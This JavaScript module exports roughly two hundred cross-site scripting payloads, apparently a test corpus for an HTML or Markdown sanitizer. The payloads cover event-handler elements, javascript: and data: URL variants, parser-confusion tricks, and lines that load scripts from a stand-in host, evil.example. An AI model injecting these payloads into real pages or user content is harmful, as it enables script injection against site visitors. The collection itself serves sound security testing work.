// Two hundred texts that would be elements, scripts or links where a page takes text for HTML.
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin'];
const ELEMENTS = [
  (handler) => `<img src=x ${handler}=alert(1)>`,
  (handler) => `<svg ${handler}=alert(1)>`,
  (handler) => `"><input autofocus ${handler}=alert(1)>`,
  (handler) => `'><details open ${handler}=alert(1)><summary>x</summary></details>`,
  (handler) => `<video><source ${handler}=alert(1)></video>`,
  (handler) => `<iframe srcdoc="<p>x" ${handler}=alert(1)></iframe>`,
  (handler) => `<svg><animate ${handler}=alert(1) attributeName=x dur=1s>`,
  (handler) => `<body ${handler}=alert(1)>`,
  (handler) => `<style>@keyframes x{}</style><p style="animation-name:x" ${handler}=alert(1)>x`,
  (handler) => `</textarea></title><marquee ${handler}=alert(1)>x</marquee>`,
];
const SCHEMES = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', 'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'blob:x', 'file:///etc/passwd', '//evil.example/x', 'https:javascript:alert(1)', 'http://a"onmouseover="alert(1)', "https://a'><img src=x onerror=alert(1)>"];
const MARKDOWN = [
  (target) => `[click](${target})`,
  (target) => `![picture](${target})`,
  (target) => `<${target}>`,
  (target) => `**[bold](${target})** \`${target}\``,
  (target) => `[x]: ${target}\n\n[x]`,
  (target) => `<a href="${target}">a</a>`,
];
const REST = [
  '<script>alert(1)</script>', '<script src=//evil.example/x.js></script>', '</script><script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<math><mtext></p><img src=x onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
  '<object data="javascript:alert(1)">', '<embed src="javascript:alert(1)">', '<form action="javascript:alert(1)"><button>x', '<base href="javascript:alert(1)//">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<link rel=stylesheet href=//evil.example/x.css>', '<a href="javascript:alert(1)">x</a>', '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>', '<x-a onclick=alert(1)>x</x-a>', '&lt;img src=x onerror=alert(1)&gt;', '\u202e<img src=x onerror=alert(1)>', '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}', '```html\n<img src=x onerror=alert(1)>\n```', '`<img src=x onerror=alert(1)>`', '**<img src=x onerror=alert(1)>**', '_<svg onload=alert(1)>_', '> <img src=x onerror=alert(1)>',
  '- <img src=x onerror=alert(1)>', '# <img src=x onerror=alert(1)>', '<details/open/ontoggle=alert(1)>', '<img src=`x` onerror=alert(1)>', '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<\u0000script>alert(1)</script>',
  '<img src onerror\u000b=alert(1)>', '<svg><script>alert&#40;1)</script>', '<isindex type=image src=1 onerror=alert(1)>', '"autofocus onfocus=alert(1) x="',
];

export const payloads = [
  ...ELEMENTS.flatMap((element) => HANDLERS.map(element)),
  ...MARKDOWN.flatMap((words) => SCHEMES.map(words)),
  ...REST,
];
